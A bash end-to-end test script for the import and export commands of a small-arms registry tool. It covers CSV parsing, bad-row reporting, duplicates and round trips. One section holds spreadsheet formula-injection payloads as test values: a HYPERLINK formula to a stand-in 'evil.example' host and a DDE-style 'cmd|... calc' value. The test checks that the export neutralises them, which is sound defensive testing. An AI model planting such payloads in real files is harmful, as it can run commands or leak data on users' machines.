#!/bin/bash
# e2e-import: `wam import` and `wam export`. A good CSV file; RFC 4180 files
# (quoted commas, a line break inside notes, CRLF, a byte order mark); bad
# rows, each reported with its line, column and rule, after which nothing
# at all is written; --dry-run; --skip-bad with its FILE.rejected.csv;
# duplicates inside one file; CSV and JSON export -> import -> export round
# trips that reproduce the files byte for byte; verify after importing.
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
DB=reg.db
"$WAM" --db $DB init --country HT >/dev/null || { echo "Bail out! init failed"; exit 1; }

# ---- a good file ----
cat >good.csv <<'EOF'
category,make,model,calibre,serial,country,year,import_marks,status,notes,markings
SA2,Kalashnikov,AKM,7.62x39mm,KA-1,SUHH,1975,HT:2019,in_store,,
SA1,Beretta,92FS,9x19mm,B-1,IT,1990,,in_service,issued to unit 4,
SA2,Zastava,M70,7.62x39mm,Z-1,YUCS,1985,HT:2010;US,in_store,,"[{""component"":""bolt"",""kind"":""serial"",""text"":""Z-1""}]"
EOF
expect_exit 0 "import a good CSV file" "$WAM" --db $DB import good.csv
expect_contains "import reports what it did" "$OUT" "3 rows read, 3 imported, 0 rejected"
run "$WAM" --db $DB --json item show --serial Z-1
OUT=$(printf "%s" "$OUT" | jq ".[0]")  # --serial always lists its matches
expect_eq "import marks column parsed" "$(jget '[.import_marks[] | .country + ":" + (.year|tostring)] | join(";")')" "HT:2010;US:null"
expect_eq "markings column parsed" "$(jget '[.markings[] | .component] | join(",")')" "frame_receiver,bolt"
expect_eq "marking status derived" "$(jget .marking_status)" adequate

# ---- RFC 4180: BOM, CRLF, quoted commas, a line break in notes, doubled quotes ----
printf '\xef\xbb\xbfcategory,make,model,serial,country,notes\r\n' >rfc.csv
printf 'SA2,FN Herstal,"FAL, para",F-1,BE,"first line\r\nsecond ""quoted"" line"\r\n' >>rfc.csv
printf 'SA1,Colt,M1911A1,C-1,US,plain\r\n' >>rfc.csv
expect_exit 0 "import an RFC 4180 file (BOM, CRLF, quoting)" "$WAM" --db $DB import rfc.csv
expect_contains "both rows imported" "$OUT" "2 rows read, 2 imported"
run "$WAM" --db $DB --json item show --serial F-1
OUT=$(printf "%s" "$OUT" | jq ".[0]")  # --serial always lists its matches
expect_eq "a quoted comma stays in the field" "$(jget .model)" "FAL, para"
expect_eq "the line break and doubled quotes survive" "$(jget .notes | tr -d '\r')" "$(printf 'first line\nsecond "quoted" line')"
expect_eq "the BOM is not part of the first column" "$(jget .category)" SA2
run "$WAM" --db $DB --json item show --serial C-1
OUT=$(printf "%s" "$OUT" | jq ".[0]")  # --serial always lists its matches
expect_eq "CR is not part of the last field" "$(jget .notes)" plain

# ---- bad rows: all reported, nothing written ----
before=$(events $DB)
{
	echo 'category,make,serial,country,year,notes'
	echo 'SA1,Colt,G-1,US,1990,good row'
	echo 'SA9,Colt,G-2,US,1990,unknown category'
	echo 'SA1,Colt,G-3,XX,1990,unknown country'
	echo ',Colt,G-4,US,1990,empty category'
	printf 'SA1,Co\xfflt,G-5,US,1990,invalid UTF-8\n'
	printf 'SA1,Colt,G-6,US,1990,%s\n' "$(head -c 9000 /dev/zero | tr '\0' x)"
	echo 'SA1,Colt,G-7,US,19x0,bad year'
	echo 'SA1,Colt,G-8,US,1990,another good row'
} >bad.csv
expect_exit 2 "a file with bad rows is refused" "$WAM" --db $DB import bad.csv
expect_contains "it says nothing was imported" "$ERR" "6 of 8 rows are bad; nothing was imported"
expect_contains "unknown category: line and column" "$ERR" "line 3, column category:"
expect_contains "unknown country: line and column" "$ERR" "line 4, column country:"
expect_contains "empty category: line and column" "$ERR" "line 5, column category: category is required"
expect_contains "invalid UTF-8: line and column" "$ERR" "line 6, column make:"
expect_contains "oversized field: line" "$ERR" "line 7, column"
expect_contains "bad year: line and column" "$ERR" "line 8, column year:"
expect_eq "nothing was written" "$(events $DB)" "$before"
expect_exit 2 "import --json lists the errors" "$WAM" --db $DB --json import bad.csv
expect_eq "every bad row is in the list, in order" "$(jget '[.errors[].line] | join(",")')" "3,4,5,6,7,8"
expect_eq "each error names its column" "$(jget '[.errors[].column] | join(",")')" "category,country,category,make,notes,year"
# (BUG-4: the oversized field's column is reported as "" instead of notes)
expect_eq "each error names the rule" "$(jget '[.errors[].rule] | unique | join(",")')" invalid
expect_eq "--json reports nothing imported" "$(jget .imported)" 0
expect_eq "still nothing written" "$(events $DB)" "$before"

# ---- --dry-run ----
cat >more.csv <<'EOF'
category,make,serial,country
SA1,Walther,W-1,DE
SA1,Walther,W-2,DE
EOF
expect_exit 0 "import --dry-run" "$WAM" --db $DB import more.csv --dry-run
expect_contains "a dry run says what would happen" "$OUT" "dry run: 2 rows read, 2 would be imported"
expect_eq "a dry run writes nothing" "$(events $DB)" "$before"
expect_exit 2 "a dry run still reports bad rows" "$WAM" --db $DB import bad.csv --dry-run
expect_eq "and writes nothing either" "$(events $DB)" "$before"

# ---- --skip-bad ----
cp bad.csv skip.csv
expect_exit 0 "import --skip-bad commits the good rows" "$WAM" --db $DB import skip.csv --skip-bad
expect_contains "it says where the rejects are" "$OUT" "8 rows read, 2 imported, 6 rejected; rejected rows with reasons in skip.csv.rejected.csv"
expect_eq "two events more" "$(events $DB)" "$((before + 2))"
run "$WAM" --db $DB --json item list --make colt
expect_eq "the good rows are there" "$(jget '[.items[].serial] | sort | join(",")')" "C-1,G-1,G-8"
check "skip.csv.rejected.csv written" test -f skip.csv.rejected.csv
expect_eq "the rejects file has an error column" "$(head -1 skip.csv.rejected.csv | tr -d '\r')" "category,make,serial,country,year,notes,error"
REJ=$(cat skip.csv.rejected.csv)
expect_contains "the rejects carry the reason" "$REJ" "SA9,Colt,G-2,US,1990,unknown category,"
expect_contains "the reason names line and column" "$REJ" "line 3, category:"
expect_contains "the bad year row is kept" "$REJ" "G-7"
# BUG-5: a row the CSV reader rejects (the oversized field) is written as its
# raw bytes, cut at the point of error, in ONE quoted field, so that row no
# longer has the header's columns and cannot be fixed and re-imported.
sed 's/xxxxxxxxxx*/shortened notes/' skip.csv.rejected.csv >shortened.csv
run "$WAM" --db $DB --json import shortened.csv --dry-run
expect_eq "every rejected row keeps the header's columns" \
	"$(jget '[.errors[] | select(.message | test("fields but the header")) | .line] | join(",")')" ""
{ head -1 skip.csv.rejected.csv; grep '^SA9,' skip.csv.rejected.csv | sed 's/^SA9/SA1/'; } >fixed.csv
expect_exit 0 "a fixed rejects file imports as it is" "$WAM" --db $DB import fixed.csv
expect_contains "the fixed row is imported" "$OUT" "1 rows read, 1 imported"

cp more.csv more2.csv
expect_exit 0 "--skip-bad on a good file" "$WAM" --db $DB import more2.csv --skip-bad
check "no rejects file when nothing is rejected" test ! -e more2.csv.rejected.csv
printf 'category,make,serial,country\nSA1,Walther,W-9,DE\nSA9,Walther,W-10,DE\n' >some.csv
expect_exit 0 "--skip-bad --rejects PATH" "$WAM" --db $DB import some.csv --skip-bad --rejects elsewhere.csv
expect_contains "the rejects go to PATH" "$(cat elsewhere.csv 2>/dev/null)" "SA9,Walther,W-10,DE,"
check "and not to FILE.rejected.csv" test ! -e some.csv.rejected.csv
printf 'category,make,serial,country\nSA1,Makarov,PM-1,SUHH\n' >stdin.csv
expect_exit 0 "import - reads standard input" bash -c "'$WAM' --db $DB import - <stdin.csv"
expect_contains "the stdin row is imported" "$OUT" "1 rows read, 1 imported"

# ---- duplicates inside one file ----
before=$(events $DB)
cat >dup.csv <<'EOF'
category,make,serial,country
SA1,Smith & Wesson,SW-100,US
SA1,SMITH & WESSON,sw 100,us
EOF
expect_exit 2 "a duplicate inside one file is refused" "$WAM" --db $DB --json import dup.csv
expect_eq "the second row is the duplicate" "$(jget '.errors[0].line, .errors[0].column, .errors[0].rule' | tr '\n' ' ')" "3 serial duplicate "
expect_eq "nothing written" "$(events $DB)" "$before"
expect_exit 2 "--dry-run finds duplicates inside the file too" "$WAM" --db $DB import dup.csv --dry-run
expect_contains "and names the registered one" "$ERR" "line 3, column serial: duplicate candidate"
# --allow-duplicates records them knowingly (it was once reset for every CSV row)
expect_exit 0 "import --allow-duplicates takes a file of known duplicates" "$WAM" --db $DB --json import dup.csv --allow-duplicates
expect_eq "both rows are imported" "$(jget .imported)" 2
run "$WAM" --db $DB --json item show --serial SW-100
expect_eq "the second is recorded as a duplicate of the first" "$(printf '%s' "$OUT" | jq -r '[.[] | .duplicate_of | length] | sort | join(",")')" "0,1"

# ---- a marking error names the marking (docs/formats/items-csv.md) ----
cat >mark.csv <<'EOF'
category,make,serial,country,markings
SA4,Norinco,56-1,CN,"[{""kind"":""serial"",""text"":""56-1""},{""kind"":""srial"",""text"":""x""}]"
SA4,Norinco,56-2,CN,[not json
EOF
expect_exit 2 "bad markings are refused" "$WAM" --db $DB import mark.csv
expect_contains "the bad marking is named" "$ERR" "line 2, column markings: markings[1]: kind 'srial' is not one of: manufacturer, serial"
expect_contains "markings that are not JSON" "$ERR" "line 3, column markings: markings is not a JSON list"

# ---- references: a site_id must name a site, a holder_id a holder ----
"$WAM" --db refs.db init --country HT >/dev/null
HOLDER=$("$WAM" --db refs.db --json holder add "Unit 4" --type state_armed_force --country HT | jq -r .id)
SITE=$("$WAM" --db refs.db --json site add "Fort Liberté" --kind armoury --country HT | jq -r .id)
printf 'category,make,serial,country,site_id,holder_id\nSA1,Glock,R-1,AT,%s,%s\nSA1,Glock,R-2,AT,%s,\n' \
	"$SITE" "$HOLDER" "$HOLDER" >refs.csv
before=$(events refs.db)
# BUG-6: after row 2 proved HOLDER exists, row 3 may use it as a site_id
expect_exit 2 "a holder's id is not a site_id" "$WAM" --db refs.db import refs.csv
expect_contains "the error names the column" "$ERR" "line 3, column site_id:"
expect_eq "nothing written" "$(events refs.db)" "$before"

# ---- CSV round trip ----
run "$WAM" --db $DB item add --category SA1 --make Colt --serial "c 1" --country us --allow-duplicate
run "$WAM" --db $DB --json item show --serial B-1
OUT=$(printf "%s" "$OUT" | jq ".[0]")  # --serial always lists its matches
"$WAM" --db $DB item status "$(jget .id)" stolen --reason "taken from the rack" >/dev/null
"$WAM" --db $DB export --format csv --out a.csv
expect_exit 0 "export --out writes a file" test -s a.csv
expect_eq "one record per weapon" "$(grep -c '^[0-9A-Z]\{26\},' a.csv)" "$("$WAM" --db $DB --json summary | jq .totals.items)"
"$WAM" --db b.db init --country HT >/dev/null
expect_exit 0 "the export imports into a new registry" "$WAM" --db b.db import a.csv
"$WAM" --db b.db export --format csv >b.csv
expect_same_file "export -> import -> export gives the same CSV" a.csv b.csv

# ---- a spreadsheet opening the CSV runs nothing, and the values come back exactly ----
"$WAM" --db f.db init --country HT >/dev/null
"$WAM" --db f.db item add --category SA1 --make '@SUM(1+1)' --model "-2+3+cmd|' /C calc'!A0" --calibre "'quoted" \
	--serial '=HYPERLINK("http://evil.example/?x","click")' --country US --notes "$(printf '\tTAB +x')" >/dev/null
"$WAM" --db f.db item add --category SA1 --make "''two" --model -12 --serial -AB12 --country US \
	--notes "$(printf '+1\r\nsecond line')" >/dev/null
# formulas behind leading blanks, which some spreadsheets trim before they look
"$WAM" --db f.db item add --category SA1 --make ' =1+2' --model '  -AB12' --serial ' @SUM(1)' --calibre ' -12' \
	--country US --notes "$(printf '\n+1 after a line break')" >/dev/null
"$WAM" --db f.db export --format csv --out f.csv
# every value cell: none may begin with = + @ TAB CR LF, nor - unless a plain negative number,
# also once leading spaces, tabs and line breaks are trimmed
risky=$(python3 -c '
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))[1:]
t = lambda c: c.lstrip(" \t\r\n")
print(sum(1 for r in rows for c in r if c[:1] in ("\t", "\r", "\n") or t(c)[:1] in ("=", "+", "@") or
          (t(c)[:1] == "-" and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", t(c)))))' f.csv)
expect_eq "no exported cell begins as a formula, with or without its leading blanks" "$risky" 0
expect_contains "a formula behind a space is written with an apostrophe" "$(cat f.csv)" ",' =1+2,'  -AB12,"
expect_contains "a formula serial is written with an apostrophe" "$(cat f.csv)" "\"'=HYPERLINK("
expect_contains "a value beginning with an apostrophe gets one more" "$(cat f.csv)" ",''quoted,"
expect_contains "a negative number is left as it is" "$(cat f.csv)" ",'''two,-12,"
"$WAM" --db g.db init --country HT >/dev/null
expect_exit 0 "the neutralised export imports" "$WAM" --db g.db import f.csv
"$WAM" --db g.db export --format csv --out g.csv
expect_same_file "export -> import -> export of formula-like values gives the same CSV" f.csv g.csv
for field in make model calibre serial notes; do
	expect_eq "the $field values come back byte for byte" \
		"$("$WAM" --db g.db --json item list | jq -c "[.items[] | .$field]")" \
		"$("$WAM" --db f.db --json item list | jq -c "[.items[] | .$field]")"
done

# ---- JSON round trip (sites, holders, weapons) ----
"$WAM" --db j.db init --country HT >/dev/null
SITE=$("$WAM" --db j.db --json site add "Depot Nord" --kind depot --country HT --lat 19.76 --lon -72.2 | jq -r .id)
HOLDER=$("$WAM" --db j.db --json holder add "Police Nationale" --type police --country HT | jq -r .id)
"$WAM" --db j.db item add --category SA2 --make Norinco --serial "56-٣٣٠٠" --country CN --site "$SITE" --holder "$HOLDER" \
	--import HT:2012 --marking bolt:serial:56-3300 >/dev/null
"$WAM" --db j.db import good.csv >/dev/null
"$WAM" --db j.db export --format json >j.json
"$WAM" --db j.db export --format csv >j.csv
"$WAM" --db k.db init --country HT >/dev/null
expect_exit 0 "a JSON export imports into a new registry" "$WAM" --db k.db --json import j.json
expect_eq "sites, holders and weapons imported" "$(jget .imported)" 6
"$WAM" --db k.db export --format json >k.json
jq '.items[1].country = "XX"' j.json >bad.json
"$WAM" --db bad.db init >/dev/null
expect_exit 2 "a bad record of a JSON document is refused" "$WAM" --db bad.db --json import bad.json
expect_eq "the error names the record" "$(jget '.errors[0].column')" "items[1].country"
expect_eq "nothing was written" "$(events bad.db)" 1
"$WAM" --db k.db export --format csv >k.csv
expect_same_file "JSON export -> import -> export gives the same JSON" j.json k.json
expect_same_file "and the same CSV" j.csv k.csv

# ---- the registries are intact ----
for db in $DB b.db k.db; do
	expect_exit 0 "verify $db after importing" "$WAM" --db $db verify
done

done_testing
